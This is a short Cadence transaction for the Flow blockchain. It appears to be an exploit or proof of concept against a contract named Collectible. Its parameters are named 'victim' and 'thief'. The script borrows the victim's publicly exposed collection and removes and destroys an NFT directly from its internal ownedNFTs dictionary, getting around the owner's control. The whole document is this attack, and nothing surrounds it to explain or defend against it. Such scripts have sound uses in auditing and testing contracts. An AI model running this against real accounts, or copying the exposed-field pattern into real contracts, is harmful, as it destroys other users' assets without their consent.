import "Collectible"

/// Reaches past the collection into its dictionary.
transaction(victim: Address, id: UInt64) {
    prepare(thief: &Account) {
        let public = getAccount(victim).capabilities.borrow<&Collectible.Collection>(Collectible.CollectionPublicPath)!
        destroy public.ownedNFTs.remove(key: id)
    }
}
